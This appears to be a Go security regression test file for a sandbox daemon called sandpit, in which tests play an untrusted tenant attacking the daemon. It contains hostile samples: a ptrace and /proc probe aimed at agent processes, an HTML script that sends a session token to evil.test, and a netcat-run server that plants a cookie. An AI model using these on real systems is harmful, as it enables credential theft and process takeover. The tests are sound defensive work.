package sandpit_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sandpit-dev/sandpit/client"
	"github.com/sandpit-dev/sandpit/internal/filesig"
	"github.com/sandpit-dev/sandpit/internal/testenv/testkit"
	"github.com/sandpit-dev/sandpit/test/harness"
)

// These tests play a tenant, or the code in a tenant's sandbox, attacking
// the daemon: the sandbox side is untrusted, so nothing it sends may run on
// the API origin, nothing the daemon holds may reach it, and its agent is
// not its to take over.

// ptraceProbe is a static program run as root inside a sandbox: it tries to
// attach to every agent process (PID 1 and the server it starts) and to
// read their environment and memory through /proc, printing one line per
// attempt, "ok" or the error.
const ptraceProbe = `package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

func main() {
	runtime.LockOSThread()
	self := os.Getpid()
	pids := []int{1}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == 1 || pid == self {
			continue
		}
		cmd, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if strings.Contains(string(cmd), "agent") && !strings.Contains(string(cmd), "probe") {
			pids = append(pids, pid)
		}
	}
	for _, pid := range pids {
		p := strconv.Itoa(pid)
		if _, err := os.ReadFile("/proc/" + p + "/environ"); err != nil {
			fmt.Println("environ", p, err)
		} else {
			fmt.Println("environ", p, "ok")
		}
		if f, err := os.Open("/proc/" + p + "/mem"); err != nil {
			fmt.Println("mem", p, err)
		} else {
			f.Close()
			fmt.Println("mem", p, "ok")
		}
		if err := syscall.PtraceAttach(pid); err != nil {
			fmt.Println("attach", p, err)
			continue
		}
		var ws syscall.WaitStatus
		_, _ = syscall.Wait4(pid, &ws, syscall.WALL, nil)
		_ = syscall.PtraceDetach(pid)
		fmt.Println("attach", p, "ok")
	}
}
`

// buildProbe compiles ptraceProbe into a static binary.
func buildProbe(t *testing.T) []byte {
	t.Helper()
	dir := t.TempDir()
	src := filepath.Join(dir, "probe.go")
	if err := os.WriteFile(src, []byte(ptraceProbe), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "probe")
	cmd := exec.Command("go", "build", "-o", out, src)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOFLAGS=")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build the probe: %v\n%s", err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestTenantUntrustedAgentCannotBeAttached: root in a sandbox attached to
// the agent's server with ptrace and replaced its listener. Now the agent
// is not dumpable and the sandbox has no CAP_SYS_PTRACE: attaching, and
// reading its environment or memory, are refused for PID 1 and the server.
func TestTenantUntrustedAgentCannotBeAttached(t *testing.T) {
	t.Parallel()
	probe := buildProbe(t)
	d := harness.Start(t, sandpitBin, harness.Options{})
	c := d.Client()
	ctx := ctxFor(t, 2*time.Minute)
	id := newSandbox(t, ctx, c)
	if err := c.WriteFile(ctx, id, "/tmp/probe", probe); err != nil {
		t.Fatal(err)
	}
	res, err := c.Exec(ctx, id, client.ExecRequest{Cmd: "sh", Args: []string{"-c", "chmod +x /tmp/probe && id -u && /tmp/probe"}, TimeoutS: 30})
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("probe: %v exit %d stderr %q", err, res.ExitCode, res.Stderr)
	}
	lines := strings.Split(strings.TrimSpace(string(res.Stdout)), "\n")
	if len(lines) < 1+3*2 || lines[0] != "0" {
		t.Fatalf("the probe, as root, saw fewer than two agent processes:\n%s", res.Stdout)
	}
	for _, l := range lines[1:] {
		if strings.HasSuffix(l, " ok") {
			t.Errorf("root in the sandbox could: %s", l)
		}
	}
	t.Logf("probe:\n%s", res.Stdout)
	// The agent still serves.
	sh(t, ctx, c, id, "true")
}

// hostilePage is what a hijacked agent (or any server in a sandbox) served
// from the API origin: a page whose script reads the dashboard's token.
const hostilePage = `<html><script>fetch("//evil.test/?t="+sessionStorage.getItem("sandpit.token"))</script></html>`

// startHostileServer runs, on port, a server that answers every request
// with hostilePage as text/html, sets a cookie, and puts the request's
// headers in an X-Seen header list (one per line in the body after the
// page), as a hijacked agent would see them.
func startHostileServer(t *testing.T, ctx context.Context, c *client.Client, id string, port int) {
	t.Helper()
	script := `#!/bin/sh
h=""
while IFS= read -r line; do
  line=$(printf '%s' "$line" | tr -d '\r')
  [ -z "$line" ] && break
  h="$h$line
"
done
body="` + strings.ReplaceAll(hostilePage, `"`, `\"`) + `
$h"
len=$(printf '%s' "$body" | wc -c)
printf 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Disposition: inline\r\nSet-Cookie: sandpit_session=planted; Path=/\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' "$len" "$body"
`
	if err := c.WriteFile(ctx, id, "/tmp/hostile.sh", []byte(script)); err != nil {
		t.Fatal(err)
	}
	sh(t, ctx, c, id, fmt.Sprintf("chmod +x /tmp/hostile.sh && nc -ll -p %d -e /tmp/hostile.sh </dev/null >/dev/null 2>&1 &", port))
}

// checkSandboxed fails unless resp is safe on the API origin: an
// attachment of type application/octet-stream, not sniffed, sandboxed by
// CSP, setting no cookie.
func checkSandboxed(t *testing.T, what string, resp *http.Response) {
	t.Helper()
	h := resp.Header
	if ct := h.Get("Content-Type"); ct != "application/octet-stream" {
		t.Errorf("%s: Content-Type %q, want application/octet-stream", what, ct)
	}
	if cd := h.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment") {
		t.Errorf("%s: Content-Disposition %q, want attachment", what, cd)
	}
	if v := h.Get("X-Content-Type-Options"); v != "nosniff" {
		t.Errorf("%s: X-Content-Type-Options %q, want nosniff", what, v)
	}
	if v := h.Values("Content-Security-Policy"); len(v) == 0 || v[0] != "sandbox" {
		t.Errorf("%s: Content-Security-Policy %q, want sandbox", what, v)
	}
	if v := h.Values("Set-Cookie"); len(v) > 0 {
		t.Errorf("%s: the sandbox set a cookie on the API origin: %q", what, v)
	}
}

// TestTenantUntrustedRelayedContentIsAnAttachment: a signed /files link on
// the API origin (the dashboard's) served a sandbox's HTML with a script.
// Now every response relayed from a sandbox there is an attachment of type
// application/octet-stream, not sniffed, sandboxed by CSP: a signed link, the
// native file read, the E2B envd file read, and a server on a sandbox port
// that answers text/html as a hijacked agent would.
func TestTenantUntrustedRelayedContentIsAnAttachment(t *testing.T) {
	t.Parallel()
	d := harness.Start(t, sandpitBin, harness.Options{})
	c := d.Client()
	ctx := ctxFor(t, 2*time.Minute)
	id := newSandbox(t, ctx, c)
	if err := c.WriteFile(ctx, id, "/tmp/evil.html", []byte(hostilePage)); err != nil {
		t.Fatal(err)
	}
	token := sandboxAccessToken(t, ctx, d, id)
	get := func(what, u string, hdr ...string) {
		t.Helper()
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
		for i := 0; i+1 < len(hdr); i += 2 {
			req.Header.Set(hdr[i], hdr[i+1])
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !bytes.Contains(body, []byte("<script>")) {
			t.Fatalf("%s: %d %q", what, resp.StatusCode, body)
		}
		checkSandboxed(t, what, resp)
	}

	q := url.Values{"path": {"/tmp/evil.html"}}
	exp := strconv.FormatInt(time.Now().Add(time.Minute).Unix(), 10)
	q.Set(filesig.ParamExpiration, exp)
	q.Set(filesig.ParamSignature, filesig.Compute("/tmp/evil.html", filesig.Read, "", token, exp))
	get("signed /files link", d.URL()+"/files?"+q.Encode())
	get("native file read", d.URL()+"/v1/sandboxes/"+id+"/files?path=/tmp/evil.html", "Authorization", "Bearer "+d.Token)
	get("E2B envd file read", d.URL()+"/e2b/envd/files?path=/tmp/evil.html", "E2b-Sandbox-Id", id, "X-Access-Token", token)

	// A server that claims text/html, relayed through the E2B gateway on
	// the API origin: what the hijacked agent's listener answered.
	startHostileServer(t, ctx, c, id, 8090)
	mustExpose(t, ctx, d, id, 8090, "http", http.StatusCreated)
	testkit.Eventually(t, 20*time.Second, "", func() error {
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, d.URL()+"/e2b/envd/files?path=/tmp/evil.html", nil)
		req.Header.Set("E2b-Sandbox-Id", id)
		req.Header.Set("E2b-Sandbox-Port", "8090")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return err
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return fmt.Errorf("status %d", resp.StatusCode)
		}
		return nil
	})
	get("hostile listener through the E2B gateway, a file read", d.URL()+"/e2b/envd/files?path=/tmp/evil.html", "E2b-Sandbox-Id", id, "E2b-Sandbox-Port", "8090")
	get("hostile listener through the E2B gateway, any path", d.URL()+"/e2b/envd/index.html", "E2b-Sandbox-Id", id, "E2b-Sandbox-Port", "8090")
}

// TestTenantUntrustedNoCredentialsReachTheSandbox: the preview proxy passed
// Authorization, Cookie and X-Api-Key to sandboxes, and forwarded calls
// carried Sandpit-Principal. Now a sandbox's server receives none of the
// daemon's credentials (the admin token, a personal token, as bearer or
// API key), no reserved cookie, no preview token and no Sandpit-* header,
// through the preview proxy or the E2B gateway; the application's own
// cookies and Basic credentials still pass on its preview host.
func TestTenantUntrustedNoCredentialsReachTheSandbox(t *testing.T) {
	t.Parallel()
	for _, rc := range routerCases {
		t.Run("router="+rc.name, func(t *testing.T) {
			t.Parallel()
			noCredentialsReachTheSandbox(t, rc)
		})
	}
}

// noCredentialsReachTheSandbox is TestTenantUntrustedNoCredentialsReachTheSandbox
// with one router: the builtin proxy, or Caddy's routes that sandpit wrote.
func noCredentialsReachTheSandbox(t *testing.T, rc routerCase) {
	d, _ := startRouted(t, rc, harness.Options{})
	c := d.Client()
	ctx := ctxFor(t, 2*time.Minute)
	tok, err := c.CreateToken(ctx, client.TokenRequest{Name: "carol-ci", Owner: "carol"})
	if err != nil {
		t.Fatal(err)
	}
	id := newSandbox(t, ctx, c)
	startHostileServer(t, ctx, c, id, 8091)
	p := mustExpose(t, ctx, d, id, 8091, "http", http.StatusCreated)
	pu, err := url.Parse(p.PublicURL)
	if err != nil {
		t.Fatal(err)
	}

	send := func(via string, set func(*http.Request)) string {
		t.Helper()
		var seen string
		testkit.Eventually(t, 20*time.Second, "", func() error {
			var req *http.Request
			switch via {
			case "preview":
				req, _ = http.NewRequestWithContext(ctx, http.MethodGet, "http://"+d.ProxyAddr+"/", nil)
				req.Host = pu.Host
			case "e2b":
				req, _ = http.NewRequestWithContext(ctx, http.MethodGet, d.URL()+"/e2b/envd/", nil)
				req.Header.Set("E2b-Sandbox-Id", id)
				req.Header.Set("E2b-Sandbox-Port", "8091")
			}
			set(req)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				return err
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			if resp.StatusCode != http.StatusOK {
				return fmt.Errorf("%s: %d %s", via, resp.StatusCode, b)
			}
			seen = string(b)
			return nil
		})
		return strings.ToLower(seen)
	}
	credentials := []struct{ header, value string }{
		{"Authorization", "Bearer " + tok.Secret},
		{"X-Api-Key", tok.Secret},
	}
	if rc.caddy == "" {
		// The builtin proxy asks the daemon which tokens are its own, so
		// it knows an admin token of any shape; Caddy recognises the
		// shapes the daemon generates (sp_..., spt_...), and the
		// harness's admin token is of neither.
		credentials = append(credentials, []struct{ header, value string }{
			{"Authorization", "Bearer " + d.Token},
			{"X-Api-Key", d.Token},
		}...)
	}
	vias := []string{"preview", "e2b"}
	if rc.caddy != "" {
		// The E2B gateway is the daemon's, whatever the router.
		vias = vias[:1]
	}
	for _, via := range vias {
		for _, cr := range credentials {
			seen := send(via, func(r *http.Request) {
				r.Header.Set(cr.header, cr.value)
				r.Header.Set("Sandpit-Principal", `{"token":"carol-ci","owner":"carol","scopes":["admin"]}`)
				r.Header.Set("Sandpit-Forwarded-By", "n1")
				r.Header.Set("X-Daytona-Preview-Token", "preview-secret")
				r.Header.Set("Cookie", "sandpit_session=abc; app=kept")
			})
			for _, leak := range []string{strings.ToLower(cr.header) + ":", "sandpit-", "x-daytona-preview-token", "sandpit_session", strings.ToLower(d.Token), strings.ToLower(tok.Secret)} {
				if strings.Contains(seen, leak) {
					t.Errorf("through %s with %s, the sandbox saw %q:\n%s", via, cr.header, leak, seen)
				}
			}
			if via == "preview" && !strings.Contains(seen, "app=kept") {
				t.Errorf("the application's own cookie did not reach it through the preview proxy:\n%s", seen)
			}
			if via == "e2b" && strings.Contains(seen, "cookie:") {
				t.Errorf("a cookie reached the sandbox from the API origin:\n%s", seen)
			}
		}
	}
	// What is the application's own passes its preview host.
	seen := send("preview", func(r *http.Request) { r.SetBasicAuth("app-user", "app-pass") })
	if !strings.Contains(seen, "authorization: basic") {
		t.Errorf("the application's own Basic credentials did not reach it:\n%s", seen)
	}
}

// TestTenantUntrustedAgentInitIsDaemonOnly: an owner rotated the agent's
// token under the daemon with POST .../agent/init. Now init is refused
// (404) through the native agent route, the E2B gateway and the agent's
// preview host, even with the agent's own token, and the daemon still
// reaches the agent afterwards.
func TestTenantUntrustedAgentInitIsDaemonOnly(t *testing.T) {
	t.Parallel()
	d := harness.Start(t, sandpitBin, harness.Options{})
	c := d.Client()
	ctx := ctxFor(t, 2*time.Minute)

	// An E2B create: every port of it is public, the agent's included.
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, d.URL()+"/e2b/sandboxes", strings.NewReader(`{}`))
	req.Header.Set("X-API-KEY", d.Token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var sb struct {
		SandboxID       string `json:"sandboxID"`
		EnvdAccessToken string `json:"envdAccessToken"`
	}
	err = json.NewDecoder(resp.Body).Decode(&sb)
	resp.Body.Close()
	if err != nil || resp.StatusCode/100 != 2 || sb.SandboxID == "" {
		t.Fatalf("E2B create: %d %v", resp.StatusCode, err)
	}
	token := sb.EnvdAccessToken
	if token == "" {
		token = sandboxAccessToken(t, ctx, d, sb.SandboxID)
	}
	body := `{"accessToken":"the-owner-s-own-token"}`
	for _, tc := range []struct {
		name string
		req  func() *http.Request
	}{
		{"native agent route", func() *http.Request {
			r, _ := http.NewRequestWithContext(ctx, http.MethodPost, d.URL()+"/v1/sandboxes/"+sb.SandboxID+"/agent/init", strings.NewReader(body))
			r.Header.Set("Authorization", "Bearer "+d.Token)
			return r
		}},
		{"E2B gateway", func() *http.Request {
			r, _ := http.NewRequestWithContext(ctx, http.MethodPost, d.URL()+"/e2b/envd/init", strings.NewReader(body))
			r.Header.Set("E2b-Sandbox-Id", sb.SandboxID)
			r.Header.Set("X-Access-Token", token)
			return r
		}},
		{"agent preview host", func() *http.Request {
			r, _ := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+d.ProxyAddr+"/init", strings.NewReader(body))
			r.Host = "49983-" + sb.SandboxID + ".localhost"
			r.Header.Set("X-Access-Token", token)
			return r
		}},
	} {
		r := tc.req()
		r.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound && resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: init answered %d %s, want 404 or 403", tc.name, resp.StatusCode, b)
		}
		// The daemon's own token still opens the agent.
		sh(t, ctx, c, sb.SandboxID, "true")
	}
}

// TestTenantUntrustedOwnerAdminIsReserved: a personal token with owner
// "admin" saw every admin-made sandbox and its env. Now minting one is 400.
func TestTenantUntrustedOwnerAdminIsReserved(t *testing.T) {
	t.Parallel()
	d := harness.Start(t, sandpitBin, harness.Options{})
	c := d.Client(client.WithRetry(client.RetryPolicy{MaxAttempts: 1}))
	ctx := ctxFor(t, time.Minute)
	for _, req := range []client.TokenRequest{
		{Name: "sneaky", Owner: "admin"},
		{Name: "sneaky2", Owner: "ADMIN"},
		{Name: "admin"}, // the owner defaults to the name
	} {
		if _, err := c.CreateToken(ctx, req); !isStatus(err, http.StatusBadRequest) {
			t.Errorf("token %q for owner %q: %v, want 400", req.Name, req.Owner, err)
		}
	}
	a := raw(t, ctx, d, d.Token, http.MethodPost, "/v1/tokens", `{"name":"raw","owner":"admin"}`)
	if a.Status != http.StatusBadRequest {
		t.Errorf("POST /v1/tokens owner admin: %d %s, want 400", a.Status, a.Body)
	}
}

// TestTenantUntrustedClusterMembersNeedAdmin: a read token listed the
// cluster members' addresses. Now every /v1/cluster endpoint answers 403 to
// a personal token and serves the admin token.
func TestTenantUntrustedClusterMembersNeedAdmin(t *testing.T) {
	t.Parallel()
	key := filepath.Join(t.TempDir(), "cluster.key")
	if err := os.WriteFile(key, []byte("the test cluster's shared secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	lb := func() string { return "127.0.0.1:" + strconv.Itoa(testkit.FreePort(t)) }
	d := harness.Start(t, sandpitBin, harness.Options{
		Env: []string{"SANDPIT_TEST_CLUSTER_FAST=1"},
		PortArgs: func() []string {
			return []string{"--cluster", "--node-name", "solo", "--gossip-listen", lb(), "--raft-listen", lb(), "--cluster-key-file", key, "--bootstrap"}
		},
	})
	c := d.Client()
	ctx := ctxFor(t, time.Minute)
	var read, write string
	for _, sc := range []struct {
		name  string
		scope string
		into  *string
	}{{"reader", "sandboxes:read", &read}, {"writer", "sandboxes:write", &write}} {
		tk, err := c.CreateToken(ctx, client.TokenRequest{Name: sc.name, Owner: "dave", Scopes: []string{sc.scope}})
		if err != nil {
			t.Fatal(err)
		}
		*sc.into = tk.Secret
	}
	for _, path := range []string{"/v1/cluster/members", "/v1/cluster/status", "/v1/cluster/digest"} {
		for _, tk := range []string{read, write} {
			if a := raw(t, ctx, d, tk, http.MethodGet, path, ""); a.Status != http.StatusForbidden {
				t.Errorf("GET %s with a personal token: %d %s, want 403", path, a.Status, a.Body)
			}
		}
		testkit.Eventually(t, 20*time.Second, "", func() error {
			if a := raw(t, ctx, d, d.Token, http.MethodGet, path, ""); a.Status != http.StatusOK {
				return fmt.Errorf("GET %s with the admin token: %d %s", path, a.Status, a.Body)
			}
			return nil
		})
	}
}

// TestTenantUntrustedRefusedUploadLeavesNothing: a 413 upload left a 1 GiB
// partial file. Now an upload cut at the limit (chunked, so only the limit
// stops it), through the native API and the E2B gateway, leaves neither the
// file, nor a temporary one, nor the directories it would have made, and an
// existing file keeps its content.
func TestTenantUntrustedRefusedUploadLeavesNothing(t *testing.T) {
	t.Parallel()
	d := harness.Start(t, sandpitBin, harness.Options{Args: []string{"--max-upload-mb", "1"}})
	c := d.Client()
	ctx := ctxFor(t, 2*time.Minute)
	id := newSandbox(t, ctx, c)
	token := sandboxAccessToken(t, ctx, d, id)
	if err := c.WriteFile(ctx, id, "/tmp/kept", []byte("before")); err != nil {
		t.Fatal(err)
	}
	chunked := func() io.Reader {
		pr, pw := io.Pipe()
		go func() {
			chunk := bytes.Repeat([]byte("x"), 64<<10)
			for range 48 {
				if _, err := pw.Write(chunk); err != nil {
					return
				}
			}
			pw.Close()
		}()
		return pr
	}
	for _, tc := range []struct{ name, method, url string }{
		{"native", http.MethodPut, d.URL() + "/v1/sandboxes/" + id + "/files?path=/tmp/up/new/big"},
		{"native over an existing file", http.MethodPut, d.URL() + "/v1/sandboxes/" + id + "/files?path=/tmp/kept"},
		{"E2B gateway", http.MethodPost, d.URL() + "/e2b/envd/files?path=/tmp/up2/big"},
	} {
		req, _ := http.NewRequestWithContext(ctx, tc.method, tc.url, chunked())
		req.Header.Set("Authorization", "Bearer "+d.Token)
		req.Header.Set("E2b-Sandbox-Id", id)
		req.Header.Set("X-Access-Token", token)
		req.Header.Set("Content-Type", "application/octet-stream")
		// A connection the server closed after an earlier 413 is not reused.
		resp, err := noKeepAlive.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Fatalf("%s: 3 MiB chunked upload: %d, want 413", tc.name, resp.StatusCode)
		}
	}
	// The agent learns of the cut a moment after the client does.
	testkit.Eventually(t, 10*time.Second, "", func() error {
		res, err := c.Exec(ctx, id, client.ExecRequest{Cmd: "sh", Args: []string{"-c", "ls -a /tmp; cat /tmp/kept"}, TimeoutS: 10})
		if err != nil {
			return err
		}
		out := string(res.Stdout)
		for _, left := range []string{"up\n", "up2\n", ".kept.upload-"} {
			if strings.Contains(out, left) {
				return fmt.Errorf("left behind %q:\n%s", strings.TrimSpace(left), out)
			}
		}
		if !strings.HasSuffix(out, "before") {
			return fmt.Errorf("/tmp/kept changed:\n%s", out)
		}
		return nil
	})
}

// TestTenantUntrustedEngineErrorsAreNotQuoted: 502 answers quoted the
// engine's raw text (container ids, the engine's own wording). Now they
// name the step that failed and the engine's text goes to the daemon's log.
func TestTenantUntrustedEngineErrorsAreNotQuoted(t *testing.T) {
	t.Parallel()
	d := harness.Start(t, sandpitBin, harness.Options{})
	c := d.Client(client.WithRetry(client.RetryPolicy{MaxAttempts: 1}))
	ctx := ctxFor(t, 2*time.Minute)
	id := newSandbox(t, ctx, c)
	// Paused behind the daemon's back: the daemon's pause then fails in
	// the engine ("Container ... is already paused").
	if out, err := run(ctx, t, "docker", "pause", "sandpit-"+id); err != nil {
		t.Fatalf("docker pause: %v %s", err, out)
	}
	defer func() { _, _ = run(context.Background(), t, "docker", "unpause", "sandpit-"+id) }()
	a := raw(t, ctx, d, d.Token, http.MethodPost, "/e2b/sandboxes/"+id+"/pause", "", "X-API-KEY", d.Token)
	if a.Status != http.StatusBadGateway {
		t.Skipf("pause of a container paused behind the daemon's back: %d %s (no engine error to check)", a.Status, a.Body)
	}
	t.Logf("answer: %d %s", a.Status, a.Body)
	msg := strings.ToLower(string(a.Body))
	for _, raw := range []string{"error response from daemon", "already paused", "is paused"} {
		if strings.Contains(msg, raw) {
			t.Errorf("the answer quotes the engine (%q): %s", raw, a.Body)
		}
	}
	if !strings.Contains(msg, "pause") {
		t.Errorf("the answer does not say which step failed: %s", a.Body)
	}
	// The daemon logs the engine's error before it answers, but its log
	// reaches the harness through a pipe that may lag behind the answer.
	testkit.Eventually(t, 10*time.Second, "the engine's error in the daemon's log", func() error {
		if logs := strings.ToLower(d.Logs()); !strings.Contains(logs, "already paused") && !strings.Contains(logs, "is paused") {
			return fmt.Errorf("not in the log")
		}
		return nil
	})
}
